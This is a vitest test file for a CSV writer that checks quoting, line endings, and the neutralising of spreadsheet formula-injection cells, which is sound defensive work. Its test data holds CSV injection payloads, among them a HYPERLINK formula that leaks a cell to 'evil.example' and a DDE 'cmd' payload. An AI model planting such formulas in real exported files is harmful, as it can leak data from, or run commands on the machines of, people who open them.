// The one CSV writer: quoting, line ends, and formula cells neutralised whatever their lead.
import Papa from 'papaparse';
import { describe, expect, it } from 'vitest';
import { CSV_FORMULA_LEAD, writeCsv } from './csv.ts';

const cell = (value: unknown) => writeCsv([{ v: value }], ['v'], { header: false });

describe('writeCsv', () => {
  it('writes a header and rows in column order, RFC 4180 quoting, CRLF after every line', () => {
    expect(
      writeCsv(
        [
          { b: 2, a: 'x, "y"' },
          { a: 'plain', b: null },
        ],
        ['a', 'b'],
      ),
    ).toBe('a,b\r\n"x, ""y""",2\r\nplain,\r\n');
    expect(writeCsv([], ['a', 'b'])).toBe('a,b\r\n');
    expect(writeCsv([], ['a'], { header: false })).toBe('');
    expect(writeCsv([{ a: 'line\nbreak' }], ['a'], { header: false })).toBe('"line\nbreak"\r\n');
  });

  it.each([
    ['=', '=HYPERLINK("https://evil.example/?leak="&B2,"x")'],
    ['+', "+1+cmd|' /C calc'!A0"],
    ['-', '-2+3'],
    ['@', '@SUM(A1:A9)'],
    ['a tab', '\t=1+1'],
    ['a carriage return', '\r=1+1'],
    ['a full-width =', '\uFF1DSUM(A1)'],
    ['a full-width @', '\uFF20SUM(A1)'],
    ['spaces and =', '  =1+1'],
  ])('neutralises a cell that starts with %s: a leading apostrophe, quoted, read back intact', (_lead, value) => {
    const text = cell(value);
    expect(text).toBe(`"'${value.replaceAll('"', '""')}"\r\n`);
    const back = Papa.parse<string[]>(text.replace(/\r\n$/, ''), { newline: '\r\n' }).data[0]![0];
    expect(back).toBe(`'${value}`);
  });

  it("catches a formula with a line break in it (papaparse's own escapeFormulae does not)", () => {
    const value = '=HYPERLINK("https://evil.example","x")\nsecond line';
    expect(cell(value)).toBe(`"'${value.replaceAll('"', '""')}"\r\n`);
    expect(Papa.unparse([[value]], { escapeFormulae: true })).not.toContain("'=");
  });

  it('leaves everything else as it is: numbers (negative too), dates, ordinary words, a formula sign inside', () => {
    expect(cell(-5)).toBe('-5\r\n');
    expect(cell(0)).toBe('0\r\n');
    expect(cell('2026-10-05')).toBe('2026-10-05\r\n');
    expect(cell('Harbour Wrap Dress')).toBe('Harbour Wrap Dress\r\n');
    expect(cell('a=b, c@d')).toBe('"a=b, c@d"\r\n');
    expect(cell('Size 12 - 14')).toBe('Size 12 - 14\r\n');
    expect(CSV_FORMULA_LEAD.test('=')).toBe(true);
    expect(CSV_FORMULA_LEAD.test('x=')).toBe(false);
  });

  it("neutralises the header too, though the product's column names never need it", () => {
    expect(writeCsv([{ '=a': 1 }], ['=a'])).toBe('"\'=a"\r\n1\r\n');
  });
});
